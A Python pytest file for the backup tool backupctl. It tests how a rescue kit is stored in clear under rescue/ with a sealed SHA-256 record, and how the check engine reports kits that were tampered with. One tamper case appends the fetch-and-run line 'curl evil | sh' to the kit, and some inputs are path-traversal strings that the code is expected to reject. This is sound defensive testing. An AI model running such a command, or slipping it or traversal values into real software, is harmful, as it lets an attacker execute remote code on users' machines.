"""The rescue kit in a repository (agent/repo/rescue_kit.py): stored once, in clear, under
rescue/, with a sealed record of its SHA-256 that `check` compares the stored kit with."""

from __future__ import annotations

import hashlib
import importlib.util
from pathlib import Path

import pytest

from agent import __version__
from agent.crypto.kdf import KdfParams
from agent.engine.check import CheckEngine
from agent.repo import layout, rescue_kit
from agent.repo.repository import Repository
from agent.storage.memory import MemoryStorage
from tests.support.locked import run_locked

FAST = KdfParams(memory_kib=8192, iterations=1, parallelism=1)
ROOT = Path(__file__).resolve().parents[3]


def _deterministic_tar():
    spec = importlib.util.spec_from_file_location("build_kit", ROOT / "scripts" / "build_kit.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.deterministic_tar


class CountingStorage(MemoryStorage):
    """A memory storage that counts what a run asks of it."""

    def __init__(self) -> None:
        super().__init__()
        self.calls: list[tuple[str, str]] = []

    def exists(self, name: str) -> bool:
        self.calls.append(("exists", name))
        return super().exists(name)

    def write(self, name: str, data: bytes, *, exclusive: bool = False, **options: bool) -> None:
        self.calls.append(("write", name))
        super().write(name, data, exclusive=exclusive, **options)

    def read(self, name: str, *, max_size: int | None = None) -> bytes:
        self.calls.append(("read", name))
        return super().read(name, max_size=max_size)


def _kit(folder: Path, version: str = __version__) -> Path:
    """A small kit of the real layout, made by the real tar builder, installed in `folder`."""
    content = folder / "content"
    (content / "wheels").mkdir(parents=True)
    (content / "wheels" / "backupctl_sante-0-py3-none-any.whl").write_bytes(b"wheel" * 100)
    (content / "requirements.txt").write_text("backupctl-sante==0 --hash=sha256:00\n")
    (content / "FORMAT.md").write_text("# backupctl repository format\n")
    (content / "READ-ME-FIRST.txt").write_text("KIT DE SECOURS / RESCUE KIT\n")
    installed = folder / "share"
    installed.mkdir()
    tar = installed / layout.rescue_kit_file(version)
    _deterministic_tar()(content, tar, tar.name.removesuffix(".tar"), mtime=946684800)
    return installed


@pytest.fixture
def repo() -> Repository:
    return Repository.init(CountingStorage(), b"phrase", cipher="xchacha20-poly1305", compression_level=1,
                           kdf_params=FAST)


def test_the_kit_is_stored_in_clear_under_rescue_with_a_sealed_record(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path)
    kit_bytes = (installed / layout.rescue_kit_file(__version__)).read_bytes()
    outcome = rescue_kit.ensure_kit(repo, directory=installed)
    assert outcome.state == rescue_kit.STORED
    objects = repo.storage.objects  # type: ignore[attr-defined]
    name = layout.rescue_kit_name(__version__)
    digest = hashlib.sha256(kit_bytes).hexdigest()
    assert objects[name] == kit_bytes  # in clear, byte for byte: readable with no tool
    assert objects[name + ".sha256"] == f"{digest}  {layout.rescue_kit_file(__version__)}\n".encode()
    assert objects["rescue/FORMAT.md"] == b"# backupctl repository format\n"
    assert objects["rescue/READ-ME-FIRST.txt"] == b"KIT DE SECOURS / RESCUE KIT\n"
    record = rescue_kit.stored_record(repo)
    assert record is not None and record.sha256 == digest and record.size == len(kit_bytes)
    assert digest.encode() not in objects[layout.rescue_record_name(__version__)]  # the record is sealed
    # The record is written last: an interrupted upload leaves no record, so the next run stores again.
    calls = repo.storage.calls  # type: ignore[attr-defined]
    writes = [n for op, n in calls if op == "write" and n.startswith("rescue/")]
    assert writes[0] == name and writes[-1] == layout.rescue_record_name(__version__)


def test_a_present_kit_costs_one_existence_check_and_is_not_stored_again(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path)
    assert rescue_kit.ensure_kit(repo, directory=installed).state == rescue_kit.STORED
    repo.storage.calls.clear()  # type: ignore[attr-defined]
    outcome = rescue_kit.ensure_kit(repo, directory=installed)
    assert outcome.state == rescue_kit.PRESENT
    assert repo.storage.calls == [("exists", layout.rescue_record_name(__version__))]  # type: ignore[attr-defined]


def test_no_installed_kit_stores_nothing_and_says_what_to_do(repo: Repository, tmp_path: Path) -> None:
    before = dict(repo.storage.objects)  # type: ignore[attr-defined]
    outcome = rescue_kit.ensure_kit(repo, directory=tmp_path / "nothing-here")
    assert outcome.state == rescue_kit.NOT_INSTALLED
    assert repo.storage.objects == before  # type: ignore[attr-defined]
    warning = outcome.warning()
    assert warning is not None and "make dist" in warning and str(tmp_path / "nothing-here") in warning


def test_a_file_that_is_not_a_kit_is_not_stored(repo: Repository, tmp_path: Path) -> None:
    (tmp_path / layout.rescue_kit_file(__version__)).write_bytes(b"not a tar at all" * 100)
    outcome = rescue_kit.ensure_kit(repo, directory=tmp_path)
    assert outcome.state == rescue_kit.UNUSABLE and "not a rescue kit" in outcome.problem
    assert not any(n.startswith("rescue/") for n in repo.storage.objects)  # type: ignore[attr-defined]


def test_check_accepts_the_stored_kit_and_does_not_call_rescue_foreign(repo: Repository, tmp_path: Path) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    report = run_locked(CheckEngine(repo))
    assert report.ok and report.errors == [] and not any("rescue" in w for w in report.warnings)


@pytest.mark.parametrize("attack", ["same size", "same size, .sha256 left alone", "longer", "record of another key"])
def test_check_reports_a_kit_replaced_in_the_storage(repo: Repository, tmp_path: Path, attack: str) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    objects = repo.storage.objects  # type: ignore[attr-defined]
    name = layout.rescue_kit_name(__version__)
    if attack == "same size":  # the attacker also rewrites the clear .sha256 to match
        forged = bytes([objects[name][0] ^ 1]) + objects[name][1:]
        objects[name] = forged
        objects[name + ".sha256"] = f"{hashlib.sha256(forged).hexdigest()}  kit\n".encode()
    elif attack == "same size, .sha256 left alone":  # only the tar's own digest tells
        objects[name] = bytes([objects[name][0] ^ 1]) + objects[name][1:]
    elif attack == "longer":
        objects[name] = objects[name] + b"#!/bin/sh\ncurl evil | sh\n"
    else:  # a record sealed by another repository's key (the attacker's own)
        other = Repository.init(MemoryStorage(), b"other", cipher="xchacha20-poly1305", compression_level=1,
                                kdf_params=FAST)
        other.save_rescue_record(__version__, rescue_kit.KitRecord(__version__, "0" * 64, 1, "now").encode())
        objects[layout.rescue_record_name(__version__)] = other.storage.objects[  # type: ignore[attr-defined]
            layout.rescue_record_name(__version__)]
    report = run_locked(CheckEngine(repo))
    assert not report.ok
    assert report.rescue_kit_problems == report.errors and len(report.errors) == 1
    assert name in report.errors[0] and "do not install" in report.errors[0]


def test_check_of_a_repository_without_any_kit_is_clean(repo: Repository) -> None:
    report = run_locked(CheckEngine(repo))  # the absence is a warning of `status`, not of the structure
    assert report.ok and report.errors == [] and report.warnings == []


def test_a_kit_planted_without_a_record_is_named(repo: Repository, tmp_path: Path) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    repo.storage.write("rescue/backupctl-rescue-kit-9.9.9.tar", b"planted")
    report = run_locked(CheckEngine(repo))
    assert report.ok  # the kit of this version is intact; the planted one is named, not installed
    assert any("backupctl-rescue-kit-9.9.9.tar has no sealed record" in w for w in report.warnings)


def test_rescue_names() -> None:
    assert layout.rescue_kit_name("0.1.0") == "rescue/backupctl-rescue-kit-0.1.0.tar"
    assert layout.rescue_version_from_record_name("rescue/backupctl-rescue-kit-0.1.0.tar.record") == "0.1.0"
    for stray in ("rescue/backupctl-rescue-kit-0.1.0.tar", "rescue/backupctl-rescue-kit-../x.tar.record",
                  "rescue/other.tar.record", "keys/backupctl-rescue-kit-1.tar.record"):
        assert layout.rescue_version_from_record_name(stray) is None
    with pytest.raises(ValueError):
        layout.rescue_kit_file("../../etc")
